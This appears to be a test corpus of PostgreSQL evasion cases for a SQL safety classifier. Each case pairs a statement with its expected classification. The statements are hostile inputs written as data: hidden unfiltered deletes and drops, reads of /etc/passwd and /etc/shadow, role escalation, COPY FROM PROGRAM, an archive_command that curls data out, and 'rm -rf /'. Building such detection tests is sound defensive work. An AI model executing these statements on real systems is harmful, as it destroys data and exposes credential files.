-- PERMANENT bypass corpus: every way found to hide what a statement does from a classifier.
-- Never delete a case; add one for every new evasion (docs/sql-analysis.md, "Adding a
-- bypass case"). Format: docs/sql-analysis.md ("Corpus format").

--- case: comments-between-every-token
--- expect: operation=delete effects=delete writes=customers unfiltered=delete complete=true
/*x*/DELETE/**/FROM/* a ; b */customers--; SELECT 1
;

--- case: nested-block-comments-hide-nothing
--- expect: operation=select effects=select writes=- complete=true count=1
/* outer /* inner */ DELETE FROM customers; */ SELECT 1;

--- case: nested-block-comments-do-not-hide-the-delete
--- expect: operation=select effects=select,delete writes=customers unfiltered=delete count=2
--- expect: complete=true
/* outer /* inner */ still comment */ SELECT 1; DELETE FROM customers;

--- case: line-comment-swallows-rest-of-line-only
--- expect: operation=select effects=select,drop writes=customers count=2 complete=true
SELECT 1 -- ; harmless?
; DROP TABLE customers;

--- case: mixed-case-keywords-and-names
--- expect: operation=delete effects=delete writes=customers unfiltered=delete complete=true
dElEtE fRoM CuStOmErS;

--- case: quoted-identifier-keeps-case
--- expect: operation=delete effects=delete writes=Customers unfiltered=delete complete=true
DELETE FROM "Customers";

--- case: quoted-lowercase-identifier-is-the-same-table
--- expect: operation=drop effects=drop writes=public.customers complete=true
DROP TABLE "public"."customers";

--- case: whitespace-around-the-dot
--- expect: operation=truncate effects=truncate writes=public.customers complete=true
TRUNCATE public . customers;

--- case: unicode-escaped-identifier
--- expect: operation=select effects=select reads=data complete=true
SELECT * FROM U&"d\0061ta";

--- case: unicode-escaped-identifier-with-uescape
--- expect: operation=delete effects=delete writes=customers unfiltered=delete complete=true
DELETE FROM U&"cust!006Fmers" UESCAPE '!';

--- case: escape-string-with-escaped-quote-hides-nothing
--- expect: operation=select effects=select writes=- complete=true count=1
SELECT E'\'; DELETE FROM customers; --';

--- case: escape-string-then-real-delete
--- expect: operation=select effects=select,delete writes=customers count=2 complete=true
SELECT E'it\'s'; DELETE FROM customers WHERE id = 1;

--- case: standard-string-with-doubled-quotes
--- expect: operation=select effects=select writes=- complete=true count=1
SELECT 'a''; DELETE FROM customers; --';

--- case: dollar-quoted-string-hides-nothing
--- expect: operation=select effects=select writes=- complete=true count=1
SELECT $tag$ ; DELETE FROM customers; $tag$;

--- case: nested-dollar-tags
--- expect: operation=select effects=select writes=- complete=true count=1
SELECT $a$ $b$ ; DROP TABLE customers; $b$ $a$;

--- case: delete-after-comment-looking-string
--- expect: operation=select effects=select,delete writes=customers unfiltered=delete count=2
--- expect: complete=true
SELECT '/* ; */ --'; DELETE FROM customers;

--- case: multi-statement-last-one-writes
--- expect: operation=select effects=select,drop writes=customers count=3 complete=true
SELECT 1; SELECT 2; DROP TABLE customers;

--- case: transaction-wrapped-drop
--- expect: operation=transaction effects=transaction,drop writes=customers count=3 complete=true
BEGIN; DROP TABLE customers; COMMIT;

--- case: cte-delete-in-select
--- expect: operation=select effects=select,delete writes=customers unfiltered=delete complete=true
WITH x AS (DELETE FROM customers RETURNING *) SELECT 1;

--- case: cte-delete-not-referenced
--- expect: operation=select effects=select,delete writes=customers unfiltered=delete complete=true
WITH x AS (DELETE FROM customers) SELECT 1;

--- case: cte-update-in-delete
--- expect: operation=delete effects=delete,update,select writes=customers,orders
--- expect: unfiltered=update
--- expect: complete=true
WITH u AS (UPDATE customers SET vip = false RETURNING id)
DELETE FROM orders WHERE customer_id IN (SELECT id FROM u);

--- case: cte-inside-subquery
--- expect: operation=select effects=select,delete writes=customers unfiltered=delete complete=true
SELECT * FROM (SELECT * FROM (WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d) a) b;

--- case: cte-named-like-the-table
--- expect: operation=select effects=select,delete writes=customers reads=customers
--- expect: unfiltered=delete complete=true
WITH customers AS (DELETE FROM customers RETURNING *) SELECT * FROM customers;

--- case: explain-analyze-delete
--- expect: operation=explain effects=explain,delete writes=customers unfiltered=delete complete=true
EXPLAIN ANALYZE DELETE FROM customers;

--- case: explain-analyze-cte-update
--- expect: operation=explain effects=explain,select,update writes=customers unfiltered=update
--- expect: complete=true
EXPLAIN (ANALYZE on) WITH u AS (UPDATE customers SET x = 1 RETURNING 1) SELECT * FROM u;

--- case: explain-analyze-create-table-as
--- expect: operation=explain effects=explain,create,select writes=loot reads=customers complete=true
EXPLAIN ANALYZE CREATE TABLE loot AS SELECT * FROM customers;

--- case: prepare-cte-delete
--- expect: operation=prepare effects=prepare,select,delete writes=customers unfiltered=delete
--- expect: complete=true
PREPARE p AS WITH d AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM d;

--- case: do-block
--- expect: operation=do effects=do complete=false
DO $$ BEGIN DELETE FROM customers; END $$;

--- case: do-block-dynamic-sql
--- expect: operation=do effects=do complete=false
--- note: DO block
DO $body$ BEGIN EXECUTE 'DROP TABLE ' || 'customers'; END $body$;

--- case: do-block-language-first
--- expect: operation=do effects=do complete=false
DO LANGUAGE plpgsql 'BEGIN EXECUTE ''TRUNCATE customers''; END';

--- case: function-body-plpgsql-dynamic-sql
--- expect: operation=create effects=create complete=false
CREATE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$
BEGIN EXECUTE format('DELETE FROM %I', 'customers'); END $$;

--- case: function-body-sql-smuggles-delete
--- expect: operation=create effects=create,delete writes=customers unfiltered=delete complete=true
CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS 'DELETE FROM customers';

--- case: function-body-sql-smuggles-do
--- expect: operation=create effects=create,do complete=false
CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $f$ DO $d$ BEGIN END $d$ $f$;

--- case: function-body-sql-unparseable
--- expect: operation=create effects=create complete=false
--- note: function body does not parse
CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM';

--- case: function-body-c-language
--- expect: operation=create effects=create complete=false
CREATE FUNCTION sys(text) RETURNS int LANGUAGE c AS '/tmp/evil.so', 'sys';

--- case: procedure-begin-atomic-smuggles-delete
--- expect: operation=create effects=create,delete writes=customers unfiltered=delete complete=true
CREATE PROCEDURE wipe() LANGUAGE sql BEGIN ATOMIC DELETE FROM customers; END;

--- case: rule-smuggles-delete
--- expect: operation=create effects=create,delete writes=audit_log,customers unfiltered=delete
--- expect: complete=true
CREATE RULE r AS ON INSERT TO audit_log DO ALSO DELETE FROM customers;

--- case: rule-instead-update
--- expect: operation=create effects=create,update writes=v,customers unfiltered=- complete=true
CREATE OR REPLACE RULE r AS ON UPDATE TO v DO INSTEAD
  UPDATE customers SET name = new.name WHERE id = old.id;

--- case: trigger-with-plpgsql-function-in-same-batch
--- expect: operation=create effects=create writes=orders functions=zap complete=false count=2
CREATE FUNCTION zap() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN DELETE FROM customers; RETURN NULL; END $$;
CREATE TRIGGER z AFTER INSERT ON orders EXECUTE FUNCTION zap();

--- case: event-trigger
--- expect: operation=create effects=create functions=on_ddl complete=true
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION on_ddl();

--- case: set-role
--- expect: operation=set effects=set settings=role features=set_role complete=true
set role postgres;

--- case: set-quoted-role-name
--- expect: operation=set effects=set settings=role features=set_role complete=true
SET "ROLE" = 'postgres';

--- case: set-session-role
--- expect: operation=set effects=set settings=role features=set_role complete=true
SET SESSION ROLE postgres;

--- case: set-session-authorization
--- expect: operation=set effects=set features=set_session_authorization complete=true
SET SESSION AUTHORIZATION DEFAULT;

--- case: set-config-role
--- expect: operation=select effects=select functions=set_config settings=role features=set_role
--- expect: complete=true
SELECT set_config('role', 'postgres', false);

--- case: set-config-qualified-uppercase
--- expect: operation=select effects=select functions=pg_catalog.set_config settings=role
--- expect: features=set_role complete=true
SELECT pg_catalog.set_config('ROLE', 'postgres', true);

--- case: set-config-computed-name
--- expect: operation=select effects=select functions=set_config,lower complete=false
SELECT set_config(lower('ROLE'), 'postgres', false);

--- case: alter-system
--- expect: operation=set effects=set,alter settings=system:archive_command features=alter_system
--- expect: complete=true
ALTER SYSTEM SET archive_command = 'curl -d @%p http://example.invalid';

--- case: pg-read-file
--- expect: operation=select effects=select functions=pg_read_file complete=true
SELECT pg_read_file('/etc/passwd');

--- case: pg-read-file-qualified-in-from
--- expect: operation=select effects=select functions=pg_catalog.pg_read_binary_file complete=true
SELECT * FROM pg_catalog.pg_read_binary_file('/etc/shadow') AS f(x);

--- case: pg-ls-dir-in-rows-from
--- expect: operation=select effects=select functions=pg_ls_dir complete=true
SELECT * FROM ROWS FROM (pg_ls_dir('.')) AS d(name);

--- case: lo-export-and-import
--- expect: operation=select effects=select functions=lo_export,lo_import complete=true
SELECT lo_export(lo_import('/etc/passwd'), '/tmp/passwd');

--- case: dangerous-function-in-insert-values
--- expect: operation=insert effects=insert writes=loot functions=pg_read_file complete=true
INSERT INTO loot VALUES (pg_read_file('/etc/passwd'));

--- case: dangerous-function-in-order-by
--- expect: operation=select effects=select reads=t functions=pg_sleep complete=true
SELECT * FROM t ORDER BY pg_sleep(10);

--- case: dangerous-function-in-column-default
--- expect: operation=create effects=create writes=t functions=pg_read_file complete=true
CREATE TABLE t (x text DEFAULT pg_read_file('/etc/passwd'));

--- case: dangerous-function-in-call-argument
--- expect: operation=call effects=call functions=p,pg_terminate_backend complete=true
CALL p(pg_terminate_backend(1234));

--- case: dblink-exec-runs-sql
--- expect: operation=select effects=select functions=dblink_exec complete=false
SELECT dblink_exec('dbname=shop', 'DELETE FROM customers');

--- case: query-to-xml-runs-sql
--- expect: operation=select effects=select functions=query_to_xml complete=false
SELECT query_to_xml('DELETE FROM customers RETURNING *', true, false, '');

--- case: table-to-xml-reads-a-named-table
--- expect: operation=select effects=select functions=table_to_xml complete=false
SELECT table_to_xml('customers', true, false, '');

--- case: select-into
--- expect: operation=create effects=create,select writes=loot reads=customers complete=true
SELECT * INTO TEMP loot FROM customers;

--- case: create-table-as-table
--- expect: operation=create effects=create,select writes=loot reads=customers complete=true
CREATE TABLE loot AS TABLE customers;

--- case: merge-then-delete
--- expect: operation=merge effects=merge,delete writes=customers reads=customers,gone
--- expect: unfiltered=- complete=true
MERGE INTO customers c USING gone g ON c.id = g.id WHEN MATCHED THEN DELETE;

--- case: merge-on-tautology-update
--- expect: operation=merge effects=merge,update writes=customers unfiltered=update complete=true
MERGE INTO customers USING (VALUES (1)) v(x) ON 1 = 1 WHEN MATCHED THEN UPDATE SET vip = true;

--- case: merge-by-source-on-false-deletes-everything
--- expect: operation=merge effects=merge,delete writes=customers unfiltered=delete complete=true
MERGE INTO customers c USING gone g ON false WHEN NOT MATCHED BY SOURCE THEN DELETE;

--- case: where-or-true
--- expect: operation=delete effects=delete writes=customers unfiltered=delete complete=true
DELETE FROM customers WHERE id = 1 OR true;

--- case: where-cast-yes
--- expect: operation=delete effects=delete writes=customers unfiltered=delete complete=true
DELETE FROM customers WHERE 'yes'::boolean;

--- case: where-double-negation
--- expect: operation=update effects=update writes=customers unfiltered=update complete=true
UPDATE customers SET vip = true WHERE NOT (1 <> 1);

--- case: where-is-true
--- expect: operation=delete effects=delete writes=customers unfiltered=delete complete=true
DELETE FROM customers WHERE (2 > 1) IS TRUE;

--- case: where-string-number-comparison
--- expect: operation=delete effects=delete writes=customers unfiltered=delete complete=true
DELETE FROM customers WHERE '1' = 1;

--- case: where-column-is-not-distinct-from-itself
--- expect: operation=delete effects=delete writes=customers unfiltered=delete complete=true
DELETE FROM customers WHERE id IS NOT DISTINCT FROM id;

--- case: copy-program-lowercase
--- expect: operation=copy effects=copy writes=customers features=copy_program complete=true
copy customers from program 'id';

--- case: copy-delete-returning
--- expect: operation=copy effects=copy,delete writes=customers unfiltered=delete complete=true
COPY (DELETE FROM customers RETURNING *) TO STDOUT;

--- case: psql-meta-command-is-not-sql
--- expect: operation=unknown complete=false
\! rm -rf /

--- case: alter-table-rename-over-a-protected-name
--- expect: operation=alter effects=alter writes=scratch,customers complete=true
ALTER TABLE scratch RENAME TO customers;

--- case: create-schema-element-targets-schema
--- expect: operation=create effects=create writes=payroll.salaries complete=true
CREATE SCHEMA payroll CREATE TABLE salaries (id int);

--- case: partition-attach-writes-parent
--- expect: operation=create effects=create writes=customers_evil,customers complete=true
CREATE TABLE customers_evil PARTITION OF customers DEFAULT;

--- case: backslash-quote-with-standard-conforming-strings-off
--- session: standard_conforming_strings=off
--- expect: operation=select complete=false
--- note: standard_conforming_strings off
SELECT 'a\' || $$' ; DELETE FROM customers; -- $$;

--- case: backslash-in-escape-string-is-the-same-either-way
--- session: standard_conforming_strings=off
--- expect: operation=select effects=select complete=true
SELECT E'a\'b';

--- case: same-text-with-standard-conforming-strings-on-over-reports-safely
--- expect: operation=select effects=select,delete writes=customers complete=true count=2
SELECT 'a\'; DELETE FROM customers; --';

--- case: operator-made-from-a-dangerous-function
--- expect: operation=create effects=create functions=pg_read_file complete=true
CREATE OPERATOR ### (RIGHTARG = text, FUNCTION = pg_read_file);

--- case: aggregate-made-from-a-dangerous-function
--- expect: operation=create effects=create functions=pg_catalog.pg_sleep,my_final complete=true
CREATE AGGREGATE slow(float8) (SFUNC = pg_catalog.pg_sleep, STYPE = void, FINALFUNC = my_final);

--- case: cast-made-from-a-function
--- expect: operation=create effects=create functions=lo_import complete=true
CREATE CAST (text AS oid) WITH FUNCTION lo_import(text);
